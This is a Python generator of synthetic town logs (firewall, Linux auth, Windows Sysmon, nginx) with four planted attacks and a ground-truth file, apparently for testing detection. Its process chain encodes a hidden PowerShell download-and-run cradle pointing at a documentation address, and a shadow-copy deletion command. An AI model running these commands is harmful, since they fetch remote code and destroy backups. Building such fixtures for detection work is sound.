"""A small town's logs from a seed: an ordinary day with four planted attacks, and the quiet days before it to learn from.

Written in real log syntax (FortiGate, sshd/sudo/cron over syslog, winlogbeat, nginx) with documentation addresses.
"""

import base64
import json
from collections.abc import Iterator
from datetime import UTC, datetime, timedelta
from pathlib import Path
from random import Random

import msgspec

TENANT = "musterstadt"
DAY = datetime(2026, 11, 3, tzinfo=UTC)  # a Tuesday
FILES = {"firewall": "firewall.log", "auth": "auth.log", "windows": "windows.ndjson", "web": "web.log"}
PARSERS = {"firewall": "fortigate", "auth": "linux_auth", "windows": "windows", "web": "nginx"}
SHARES = {"firewall": 0.55, "auth": 0.15, "windows": 0.15, "web": 0.15}
ROUTINE_LINES = 3_000
BULK_FIREWALL = 0.7
HOURS = (1, 1, 1, 1, 1, 2, 5, 14, 20, 22, 22, 20, 14, 17, 20, 18, 13, 7, 4, 3, 2, 2, 1, 1)  # how busy each hour is
GUESSER, SCANNER, DROP = "203.0.113.66", "10.20.1.55", "203.0.113.200"
VICTIM_USER, VICTIM_HOST, LEAK_HOST = "k.weber", "ws-031", "10.20.1.17"
FIRST = "a.bauer b.fischer c.wagner d.becker e.hoffmann f.koch g.richter h.klein i.wolf j.neumann"
USERS = (*FIRST.split(), VICTIM_USER, *(f"{c}.{n}" for c in "lmnop" for n in ("schulz", "braun", "krause", "lange")))
PROGRAMS = (
    "outlook.exe",
    "winword.exe",
    "excel.exe",
    "msedge.exe",
    "teams.exe",
    "explorer.exe",
    "acrobat.exe",
    "fachverfahren.exe",
)
PAGES = (
    "/",
    "/buergerservice",
    "/termine",
    "/formulare",
    "/news",
    "/css/site.css",
    "/js/app.js",
    "/kontakt",
    "/rathaus",
)
AGENTS = (
    "Mozilla/5.0 (Windows NT 10.0; Win64; x64)",
    "Mozilla/5.0 (iPhone; CPU iPhone OS 18_1 like Mac OS X)",
    "Mozilla/5.0 (X11; Linux x86_64)",
)

FORWARD, VPN = 'type="traffic" subtype="forward"', 'type="event" subtype="vpn"'

Line = tuple[float, str, str]  # (time, source, text)


class Truth(msgspec.Struct, frozen=True):
    """One planted attack."""

    attack: str
    technique: str
    tenant: str
    start: str
    end: str
    entities: list[str]
    seen_by: str  # rule | behaviour


def write(folder: Path, seed: int, lines: int, history_days: int = 0, history_lines: int | None = None) -> list[Truth]:
    """Write the day's files, `truth.jsonl` and, if asked for, `history/` with the days before. Returns the truth."""
    folder.mkdir(parents=True, exist_ok=True)
    if history_days:
        quiet = (
            line
            for back in range(history_days, 0, -1)
            for line in sorted(ordinary(Random(f"{seed}/{back}"), DAY - timedelta(days=back), history_lines or lines))
        )
        _write_files(folder / "history", quiet)
    rng = Random(seed)
    planted, truth = attacks(rng, DAY)
    _write_files(folder, sorted([*ordinary(rng, DAY, lines - len(planted)), *planted]))
    with (folder / "truth.jsonl").open("wb") as file:
        for one in truth:
            file.write(msgspec.json.encode(one) + b"\n")
    return truth


def ordinary(rng: Random, day: datetime, lines: int) -> list[Line]:
    """A day without attacks: exactly `lines` lines.

    Up to ROUTINE_LINES of them are what people and machines do; the rest is the bulk that every town has more or less of
    (name look-ups, visitors of the web page), which changes nobody's habits.
    """
    weekend = day.weekday() >= 5
    routine = min(lines, ROUTINE_LINES)
    counts = {source: int(routine * share) for source, share in SHARES.items()}
    counts["firewall"] += routine - sum(counts.values())
    found: list[Line] = []
    for source, make in (("firewall", _firewall), ("auth", _auth), ("windows", _windows), ("web", _web)):
        for _ in range(counts[source]):
            at = _moment(rng, day, flat=weekend)
            found.append((at, source, make(rng, at)))
    for _ in range(lines - routine):
        at = _moment(rng, day, flat=weekend)
        if rng.random() < BULK_FIREWALL:
            host = f"10.20.1.{rng.randrange(10, 60)}"
            look_up = _traffic(rng, at, host, "10.20.0.11", 53, rng.randint(60, 90), rng.randint(90, 400), "close")
            found.append((at, "firewall", look_up))
        else:
            found.append((at, "web", _web(rng, at)))
    return found


def attacks(rng: Random, day: datetime) -> tuple[list[Line], list[Truth]]:
    base = day.timestamp()
    lines: list[Line] = []
    truth: list[Truth] = []

    def plant(name: str, technique: str, seen_by: str, made: list[Line], entities: list[str]) -> None:
        lines.extend(made)
        start, end = (datetime.fromtimestamp(t, UTC).isoformat() for t in (made[0][0], made[-1][0]))
        truth.append(Truth(name, technique, TENANT, start, end, entities, seen_by))

    at, guesses = base + 10.2 * 3600, []
    for _ in range(170):
        at += rng.uniform(4, 18)
        guesses.append((at, "firewall", _vpn(rng, at, rng.choice((*USERS[:6], VICTIM_USER)), GUESSER, ok=False)))
    guesses.append((at + 21, "firewall", _vpn(rng, at + 21, VICTIM_USER, GUESSER, ok=True)))
    plant("vpn_guessing", "T1110", "rule", guesses, [GUESSER, VICTIM_USER])

    at, scan = base + 13.4 * 3600, []
    for port in rng.sample(range(20, 9000), 140):
        at += rng.uniform(0.2, 1.6)
        scan.append((at, "firewall", _traffic(rng, at, SCANNER, "10.20.0.10", port, 0, 0, "deny")))
    plant("port_scan", "T1046", "rule", scan, [SCANNER])

    at = base + 11.7 * 3600
    script = base64.b64encode(
        "IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.90/a')".encode("utf-16-le")
    ).decode()
    powershell = r"C:\Windows\System32\WindowsPowerShell\v1.0\powershell.exe"
    office = r"C:\Program Files\Microsoft Office\root\Office16\WINWORD.EXE"
    chain = [
        (
            at,
            "windows",
            _process(
                rng, at, VICTIM_HOST, "h.klein", office, f'"{office}" Rechnung_4711.docm', r"C:\Windows\explorer.exe"
            ),
        ),
        (
            at + 9,
            "windows",
            _process(
                rng, at + 9, VICTIM_HOST, "h.klein", powershell, f"powershell.exe -nop -w hidden -enc {script}", office
            ),
        ),
        (
            at + 95,
            "windows",
            _process(
                rng,
                at + 95,
                VICTIM_HOST,
                "h.klein",
                r"C:\Windows\System32\vssadmin.exe",
                "vssadmin delete shadows /all /quiet",
                powershell,
            ),
        ),
    ]
    plant("process_chain", "T1059.001", "rule", chain, [VICTIM_HOST, "h.klein"])

    at, leak = base + 9.1 * 3600, []
    for _ in range(44):
        at += rng.uniform(500, 760)
        leak.append(
            (
                at,
                "firewall",
                _traffic(
                    rng,
                    at,
                    LEAK_HOST,
                    DROP,
                    443,
                    rng.randint(14_000_000, 26_000_000),
                    rng.randint(20_000, 90_000),
                    "close",
                ),
            )
        )
    plant("slow_exfiltration", "T1048", "behaviour", leak, [LEAK_HOST, DROP])
    return lines, truth


def _write_files(folder: Path, lines: Iterator[Line] | list[Line]) -> None:
    folder.mkdir(parents=True, exist_ok=True)
    files = {source: (folder / name).open("w", encoding="utf-8") for source, name in FILES.items()}
    for _, source, text in lines:
        files[source].write(text + "\n")
    for file in files.values():
        file.close()


def _moment(rng: Random, day: datetime, *, flat: bool) -> float:
    hour = rng.randrange(24) if flat else rng.choices(range(24), HOURS)[0]
    return day.timestamp() + hour * 3600 + rng.random() * 3599


def _firewall(rng: Random, at: float) -> str:
    kind = rng.random()
    host = rng.randrange(10, 60)
    if kind < 0.06:  # noise from outside that every town has
        outside = f"198.51.100.{rng.randrange(1, 255)}"
        return _traffic(
            rng, at, outside, "192.0.2.10", rng.choice((22, 23, 80, 443, 445, 3389, 8080)), 0, 0, "deny", inbound=True
        )
    if kind < 0.075:
        user = USERS[rng.randrange(len(USERS))]
        home = f"198.51.100.{50 + USERS.index(user)}"  # everybody has a usual line at home
        return _vpn(rng, at, user, home, ok=rng.random() > 0.08)
    if kind < 0.5:
        inside = f"10.20.0.{rng.choice((10, 11, 12, 20))}"
        return _traffic(
            rng,
            at,
            f"10.20.1.{host}",
            inside,
            rng.choice((53, 88, 389, 445)),
            rng.randint(200, 9000),
            rng.randint(200, 60_000),
            "close",
        )
    usual = 5 + (host * 7 + rng.randrange(6)) % 40  # each workstation has its few usual destinations
    sent = min(int(rng.lognormvariate(8.5, 1.4)), 3_000_000)
    return _traffic(
        rng, at, f"10.20.1.{host}", f"192.0.2.{100 + usual}", 443, sent, int(sent * rng.uniform(2, 30)), "close"
    )


def _head(at: float, rng: Random, logid: str, kind: str, level: str) -> str:
    local = datetime.fromtimestamp(at, UTC) + timedelta(hours=1)
    return (
        f'date={local:%Y-%m-%d} time={local:%H:%M:%S} devname="fw-rathaus" devid="FGT60FTK20000{rng.randrange(100, 999)}" '
        f'eventtime={int(at * 1e9)} tz="+0100" logid="{logid}" {kind} level="{level}" vd="root"'
    )


def _traffic(
    rng: Random,
    at: float,
    source: str,
    target: str,
    port: int,
    sent: int,
    received: int,
    action: str,
    *,
    inbound: bool = False,
) -> str:
    service = {53: "DNS", 80: "HTTP", 443: "HTTPS", 445: "SMB", 88: "KERBEROS", 389: "LDAP"}.get(port, f"tcp/{port}")
    proto = 17 if port == 53 else 6
    inner, outer = ("wan1", "dmz") if inbound else ("lan", "lan" if target.startswith("10.") else "wan1")
    level = "warning" if action == "deny" else "notice"
    return (
        f'{_head(at, rng, "0000000013", FORWARD, level)} srcip={source} srcport={rng.randint(49152, 65535)} srcintf="{inner}" '
        f'srcintfrole="{"wan" if inbound else "lan"}" dstip={target} dstport={port} dstintf="{outer}" dstintfrole="{"wan" if outer == "wan1" else "lan"}" '
        f'sessionid={rng.randrange(10**6, 10**8)} proto={proto} action="{action}" policyid={0 if action == "deny" else 12} policytype="policy" '
        f'service="{service}" duration={rng.randint(0, 240)} sentbyte={sent} rcvdbyte={received} sentpkt={sent // 1200 + 1} rcvdpkt={received // 1200 + 1}'
    )


def _vpn(rng: Random, at: float, user: str, address: str, *, ok: bool) -> str:
    if ok:
        head = _head(at, rng, "0101039947", VPN, "information")
        return f'{head} logdesc="SSL VPN tunnel up" action="tunnel-up" tunneltype="ssl-tunnel" remip={address} tunnelip=10.20.9.{rng.randrange(2, 250)} user="{user}" group="vpn-nutzer" reason="tunnel established" msg="SSL tunnel established"'
    head = _head(at, rng, "0101039426", VPN, "alert")
    return f'{head} logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web" remip={address} user="{user}" group="N/A" reason="sslvpn_login_permission_denied" msg="SSL user failed to logged in"'


def _auth(rng: Random, at: float) -> str:
    host, stamp, pid = (
        f"srv-{rng.choice(('app', 'db', 'file'))}",
        f"{datetime.fromtimestamp(at, UTC) + timedelta(hours=1):%b %e %H:%M:%S}",
        rng.randint(900, 32000),
    )
    kind = rng.random()
    user = rng.choice(("admin.ost", "admin.west", "backup"))
    admin_station = {"admin.ost": "10.20.0.31", "admin.west": "10.20.0.32", "backup": "10.20.0.20"}[user]
    if kind < 0.45:
        return f"{stamp} {host} CRON[{pid}]: (root) CMD (   cd / && run-parts --report /etc/cron.hourly)"
    if kind < 0.6:
        return f"{stamp} {host} sshd[{pid}]: Accepted publickey for {user} from {admin_station} port {rng.randint(30000, 60000)} ssh2: ED25519 SHA256:demo"
    if kind < 0.8:
        return f"{stamp} {host} sshd[{pid}]: pam_unix(sshd:session): session {rng.choice((f'opened for user {user}(uid=1001) by (uid=0)', f'closed for user {user}'))}"
    if kind < 0.996:
        return f"{stamp} {host} sudo:   {user} : TTY=pts/{rng.randrange(4)} ; PWD=/home/{user} ; USER=root ; COMMAND=/usr/bin/systemctl status {rng.choice(('nginx', 'postgresql', 'cron'))}"
    return f"{stamp} {host} sshd[{pid}]: Failed password for {user} from {admin_station} port {rng.randint(30000, 60000)} ssh2"


def _windows(rng: Random, at: float) -> str:
    number = rng.randrange(10, 60)
    user = USERS[number % len(USERS)]
    if rng.random() < 0.5:
        program = rng.choice(PROGRAMS)
        path = rf"C:\Program Files\{program.split('.')[0]}\{program}"
        return _process(rng, at, f"ws-0{number}", user, path, f'"{path}"', r"C:\Windows\explorer.exe")
    data = {
        "TargetUserName": user, "TargetDomainName": "MUSTERSTADT", "LogonType": rng.choice(("2", "3", "7")), "IpAddress": f"10.20.1.{number}",
        "IpPort": str(rng.randint(49152, 65535)), "LogonProcessName": "User32", "AuthenticationPackageName": "Negotiate", "WorkstationName": f"WS-0{number}",
        "SubjectUserName": f"WS-0{number}$", "SubjectDomainName": "MUSTERSTADT",
    }  # fmt: skip
    return _winlog(rng, at, f"ws-0{number}", "Security", "Microsoft-Windows-Security-Auditing", 4624, data)


def _process(rng: Random, at: float, host: str, user: str, image: str, command: str, parent: str) -> str:
    stamp = f"{datetime.fromtimestamp(at, UTC):%Y-%m-%d %H:%M:%S}.{rng.randrange(1000):03}"
    data = {
        "UtcTime": stamp, "ProcessId": str(rng.randint(1000, 30000)), "Image": image, "CommandLine": command, "CurrentDirectory": "C:\\",
        "User": rf"MUSTERSTADT\{user}", "LogonId": hex(rng.randrange(10**6)), "IntegrityLevel": "Medium", "ParentImage": parent,
        "ParentProcessId": str(rng.randint(1000, 30000)), "ParentCommandLine": parent, "RuleName": "-",
    }  # fmt: skip
    return _winlog(rng, at, host, "Microsoft-Windows-Sysmon/Operational", "Microsoft-Windows-Sysmon", 1, data)


def _winlog(rng: Random, at: float, host: str, channel: str, provider: str, code: int, data: dict[str, str]) -> str:
    stamp = f"{datetime.fromtimestamp(at, UTC):%Y-%m-%dT%H:%M:%S}.{int(at * 1000) % 1000:03}Z"
    document = {
        "@timestamp": stamp,
        "winlog": {
            "channel": channel, "provider_name": provider, "event_id": str(code), "record_id": rng.randrange(10**7), "computer_name": f"{host}.musterstadt.example",
            "event_data": data, **({"keywords": ["Audit Success"]} if channel == "Security" else {}),
        },
        "event": {"code": str(code), "provider": provider, "kind": "event"},
        "host": {"name": f"{host}.musterstadt.example"},
        "agent": {"type": "winlogbeat", "version": "8.15.0"},
    }  # fmt: skip
    return json.dumps(document, separators=(",", ":"))


def _web(rng: Random, at: float) -> str:
    stamp = f"{datetime.fromtimestamp(at, UTC):%d/%b/%Y:%H:%M:%S} +0000"
    status = rng.choices((200, 304, 302, 404, 500), (85, 8, 4, 2.7, 0.3))[0]
    size = 0 if status == 304 else rng.randint(300, 60_000)
    return f'198.51.100.{rng.randrange(1, 255)} - - [{stamp}] "GET {rng.choice(PAGES)} HTTP/1.1" {status} {size} "-" "{rng.choice(AGENTS)}"'
